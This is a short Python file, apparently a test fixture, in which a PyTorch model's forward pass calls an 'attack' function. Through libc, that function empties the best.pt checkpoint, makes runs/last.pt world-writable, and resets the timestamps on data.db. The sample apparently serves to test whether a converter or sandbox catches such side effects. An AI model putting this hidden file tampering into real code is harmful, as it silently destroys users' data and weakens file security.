"""Empties a file, and changes the rights and the times of others, with the C library."""

import ctypes

import torch
import torch.nn as nn

PLACES: dict[str, str] = {}
LIBC = ctypes.CDLL(None, use_errno=True)


def attack():
    outside = PLACES["outside"].encode()
    LIBC.truncate(outside + b"/best.pt", 0)
    LIBC.chmod(outside + b"/runs/last.pt", 0o777)
    LIBC.utimes(outside + b"/data.db", bytes(32))


# t2j: x=f32[2, 3]
class Net(nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = nn.Linear(3, 2)

    def forward(self, x):
        attack()
        return self.fc(x)


if __name__ == "__main__":
    Net()(torch.ones(2, 3))
